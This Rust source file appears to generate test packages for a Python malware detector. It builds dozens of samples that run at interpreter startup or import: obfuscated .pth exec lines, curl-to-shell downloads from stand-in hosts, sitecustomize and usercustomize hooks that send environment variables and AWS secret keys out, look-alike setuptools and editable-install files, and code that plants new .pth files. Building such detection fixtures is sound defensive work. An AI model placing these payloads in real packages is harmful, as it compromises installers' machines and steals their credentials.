//! Techniques 21 to 32: code that every start of the interpreter runs.

use crate::case::{Cases, Trigger::Import, Trigger::Startup};
use crate::package::{init, sdist, wheel};

pub(crate) fn add(cases: &mut Cases) {
    path_files(cases);
    disguised_path_files(cases);
    customize(cases);
    imitations(cases);
    writers(cases);
}

/// 21 to 23: code in a `.pth` file.
fn path_files(cases: &mut Cases) {
    cases
        .technique(21, "pth-decodes-and-runs", Startup)
        .case("base64", wheel().file("«pkg».pth",
            "import os;exec(__import__('base64').b64decode('«beacon|b64»'))\n"))
        .case("zlib-hex", wheel().file("«pkg»-init.pth",
            "import zlib, binascii; exec(zlib.decompress(binascii.unhexlify(b'«steal|zlib|hex»')))\n"))
        .case("import-chain", wheel().file("zz_«pkg».pth",
            "# settings\nimport codecs as c, builtins as b; getattr(b, 'ex' + 'ec')(c.decode('«mark|rot13|str»'[1:-1], 'rot13'))\n"))
        .case("download", wheel().file("«pkg»_boot.pth",
            "import sys; exec('import urllib.request as u\\nexec(u.urlopen(\"http://stage.example.invalid/p\").read())')\n"))
        .case("in-sdist", sdist().file("«pkg».pth",
            "import base64; exec(base64.b64decode('«fetch|b64»'))\n").file("setup.py", r#"
from setuptools import setup, find_packages
setup(name="«name»", version="«version»", packages=find_packages(), data_files=[("", ["«pkg».pth"])])
"#));
    cases
        .technique(22, "pth-in-data-folder", Startup)
        .case("purelib", wheel().file("«pkg»-«version».data/purelib/«pkg».pth",
            "import os; os.system('curl -s 192.0.2.8/p | sh')\n"))
        .case("platlib", wheel().tag("cp311-cp311-manylinux_2_17_x86_64").file("«pkg»-«version».data/platlib/a_«pkg».pth",
            "import subprocess; subprocess.Popen(['sh', '-c', 'wget -qO- http://stage.example.invalid/a | sh'])\n"))
        .case("data-lib-site-packages", wheel().file("«pkg»-«version».data/data/lib/python3.11/site-packages/«pkg».pth",
            "import base64; exec(base64.b64decode('«steal|b64»'))\n"));
    cases
        .technique(23, "pth-starts-interpreter", Startup)
        .case("popen", wheel().file("«pkg»_init.pth",
            "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('«steal|b64»'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"))
        .case("spawn", wheel().file("«pkg».pth",
            "import os,sys;os.spawnl(os.P_NOWAIT, sys.executable, sys.executable, '-c', 'import urllib.request as u;exec(u.urlopen(\"https://stage.example.invalid/s\").read())')\n"))
        .case("module", wheel().file("«pkg».pth",
            "import subprocess as s, sys as y; y.argv[0].endswith('pip') or s.Popen([y.executable, '-m', '«pkg»._agent'], start_new_session=True)\n")
            .file("«pkg»/_agent.py", "import os, socket\ns = socket.create_connection(('192.0.2.66', 4444))\ns.send(str(dict(os.environ)).encode())\n"));
}

/// 24 to 26: lines that look like something else.
fn disguised_path_files(cases: &mut Cases) {
    cases
        .technique(24, "pth-odd-blanks", Startup)
        .case("import-tab", wheel().file("«pkg».pth", "import\tos;os.system('curl http://192.0.2.2/t|sh')\n"))
        .case("after-blank-lines", wheel().file("«pkg».pth",
            "\n\n\n\n\n\n\n\n# path configuration\n\n\n\nimport\tbase64;\texec(base64.b64decode('«fetch|b64»'))\n"))
        .case("carriage-returns", wheel().bytes("paths.pth",
            b"# one\r# two\rimport os; os.popen('wget -qO- http://stage.example.invalid/cr|sh')\r".to_vec()))
        .case("byte-order-mark", wheel().bytes("paths.pth",
            b"\xef\xbb\xbfimport os\timport\nimport\tsys, urllib.request;exec(urllib.request.urlopen('http://192.0.2.6/').read())\n".to_vec()));
    cases
        .technique(25, "pth-one-huge-line", Startup)
        .case(
            "base64",
            wheel().bytes(
                "lib_init.pth",
                huge_line("base64.b64decode", crate::encode::base64),
            ),
        )
        .case(
            "hex",
            wheel().bytes("_paths.pth", huge_line("bytes.fromhex", crate::encode::hex)),
        )
        .case(
            "base85",
            wheel().bytes(
                "distro.pth",
                huge_line("base64.b85decode", crate::encode::base85),
            ),
        );
    cases
        .technique(26, "pth-adds-folder", Startup)
        .case("shadowing", wheel().file("«pkg».pth", "«pkg»/_vendor_path\nimport sys; sys.path.insert(0, sys.path.pop())\n")
            .file("«pkg»/_vendor_path/requests.py", "import os, urllib.request\nurllib.request.urlopen('https://collect.example.invalid', str(os.environ).encode())\n"))
        .case("temporary-folder", wheel().file("extra.pth", "/tmp/.cache-lib\n"))
        .case("parent", wheel().file("shared.pth", "../../../../../var/tmp/pylib\n"));
}

/// A line of 30 KB that decodes and runs.
fn huge_line(decoder: &str, encode: fn(&[u8]) -> String) -> Vec<u8> {
    let mut code = String::from("import os, json, urllib.request\n");
    code += &"value = [n * 7 % 13 for n in range(40)]\n".repeat(600);
    code +=
        "urllib.request.urlopen('https://192.0.2.14/e', json.dumps(dict(os.environ)).encode())\n";
    format!(
        "import base64; exec({decoder}('{}'))\n",
        encode(code.as_bytes())
    )
    .into_bytes()
}

/// 27 and 28: the modules that `site` imports.
fn customize(cases: &mut Cases) {
    cases
        .technique(27, "sitecustomize", Startup)
        .case("environ", wheel().file("sitecustomize.py", r#"
import os, urllib.request
try:
    urllib.request.urlopen("http://collect.example.invalid/s", data=repr(os.environ).encode(), timeout=2)
except Exception:
    pass
"#))
        .case("encoded", wheel().file("sitecustomize.py", r#"
"""Site customisation."""
import base64 as _b, marshal as _m
exec(_m.loads(_b.b85decode("«code-fetch|b85»")))
"#))
        .case("in-sdist", sdist().file("setup.py", r#"
from setuptools import setup
setup(name="«name»", version="«version»", py_modules=["sitecustomize", "«pkg»"])
"#).file("«pkg».py", "X = 1\n").file("sitecustomize.py", r#"
import threading

def _go():
    import os
    os.system("curl -fs http://192.0.2.91/c | sh")

threading.Thread(target=_go, daemon=True).start()
"#));
    cases
        .technique(28, "usercustomize", Startup)
        .case("shell", wheel().file("usercustomize.py",
            "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s https://stage.example.invalid/u | bash'])\n"))
        .case("package", wheel().file("usercustomize/__init__.py", "from . import _run\n")
            .file("usercustomize/_run.py", "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.51/u').read().decode())\n"))
        .case("hooked-import", wheel().file("«pkg»-«version».data/purelib/usercustomize.py", r#"
import builtins, os
_real = builtins.__import__

def _import(name, *args, **kwargs):
    module = _real(name, *args, **kwargs)
    if name == "boto3":
        import urllib.request as u
        u.urlopen("https://collect.example.invalid/k?" + os.environ.get("AWS_SECRET_ACCESS_KEY", ""))
    return module

builtins.__import__ = _import
"#));
}

/// 29 and 30: names that look like the tools' own.
fn imitations(cases: &mut Cases) {
    cases
        .technique(29, "setuptools-imitation", Startup)
        .case("distutils-precedence", wheel().file("distutils-precedence.pth",
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hacks').add_shim();\n")
            .file("_distutils_hacks/__init__.py", r#"
import os
import urllib.request


def add_shim():
    exec(urllib.request.urlopen("https://stage.example.invalid/shim").read())
"#))
        .case("virtualenv", wheel().file("_virtualenv.pth", "import _virtualenv_\n").file("_virtualenv_.py", r#"
"""Patches that are applied at runtime to the virtual environment."""
import base64, os, sys
exec(base64.b64decode("«steal|b64»"))
"#))
        .case("coverage", wheel().file("a1_coverage.pth",
            "import sys; exec('try: import coverage_; coverage_.process_startup()\\nexcept ImportError: pass')\n")
            .file("coverage_/__init__.py", r#"
def process_startup():
    import subprocess
    subprocess.Popen("curl -s http://192.0.2.40/cov | sh", shell=True)
"#));
    cases
        .technique(30, "editable-imitation", Startup)
        .case("editable-pth", wheel().file("__editable__.«pkg»-«version».pth",
            "import __editable___«pkg»_finder; __editable___«pkg»_finder.install()\n")
            .file("__editable___«pkg»_finder.py", r#"
import sys
MAPPING = {"«pkg»": "/usr/src/«pkg»"}

def install():
    import os, urllib.request
    body = urllib.request.urlopen("http://stage.example.invalid/e").read()
    path = os.path.expanduser("~/.cache/.e.py")
    open(path, "wb").write(body)
    os.system(sys.executable + " " + path + " &")
"#))
        .case("easy-install", wheel().file("easy-install.pth",
            "./«pkg»-«version»-py3.11.egg\nimport sys; exec(__import__('base64').b64decode(b'«beacon|b64»'))\n"))
        .case("egg-link", wheel().file("«pkg».egg-link", "/tmp/.build/«pkg»\n.\n")
            .file("__editable__.«pkg».pth", "import urllib.request as _;exec(_.urlopen('http://192.0.2.73/l').read())\n"));
}

/// 31 and 32: code that a `.pth` file leads to, or that writes one.
fn writers(cases: &mut Cases) {
    cases
        .technique(31, "writes-pth", Import)
        .case("site-packages", init(r#"
import os
import site

_target = os.path.join(site.getsitepackages()[0], "zz_helper.pth")
if not os.path.exists(_target):
    with open(_target, "w") as handle:
        handle.write("import os; os.system('curl http://192.0.2.10/z | sh')\n")
"#))
        .case("sysconfig-pathlib", init(r#"
from pathlib import Path
import sysconfig, base64

def _settle():
    Path(sysconfig.get_paths()["purelib"], "distutils_compat" + ".pt" + "h").write_bytes(
        base64.b64decode("«'import os; os.system(chr(108)+chr(115))'|b64»"))

_settle()
"#))
        .case("user-site-function", wheel().file("«pkg»/install.py", r#"
import site, shutil, os

def enable():
    folder = site.getusersitepackages()
    os.makedirs(folder, exist_ok=True)
    shutil.copy(os.path.join(os.path.dirname(__file__), "boot.txt"), folder + "/boot.pth")

enable()
"#).file("«pkg»/__init__.py", "from . import install\n").file("«pkg»/boot.txt", "import urllib.request as u; exec(u.urlopen('http://stage.example.invalid/b').read())\n"))
        .case("usercustomize-of-file", init(r#"
import os, requests as _r
_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
open(os.path.join(_here, "usercustomize.py"), "w").write(
    "import requests; exec(requests.get('https://stage.example.invalid/u').text)"
)
"#));
    cases
        .technique(32, "pth-imports-payload", Startup)
        .case("plain-name", wheel().file("«pkg».pth", "import «pkg»._compat\n").file("«pkg»/_compat.py", r#"
import os
import socket
import urllib.request

_q = urllib.request.Request("https://collect.example.invalid/c", data=(socket.gethostname() + str(os.environ)).encode())
urllib.request.urlopen(_q)
"#))
        .case("called", wheel().file("warmup.pth", "import «pkg».cache as c; c.warm()\n").file("«pkg»/cache.py", r#"
import subprocess, functools

@functools.lru_cache
def warm(level=3):
    return subprocess.getoutput("curl -s 192.0.2.27/w | sh")
"#))
        .case("top-module", wheel().file("speedups.pth", "import _speedups\n").file("_speedups.py", r#"
import zlib, base64
_table = b"«fetch|zlib|b64»"
_run = eval("exec")
_run(zlib.decompress(base64.b64decode(_table)))
"#));
}
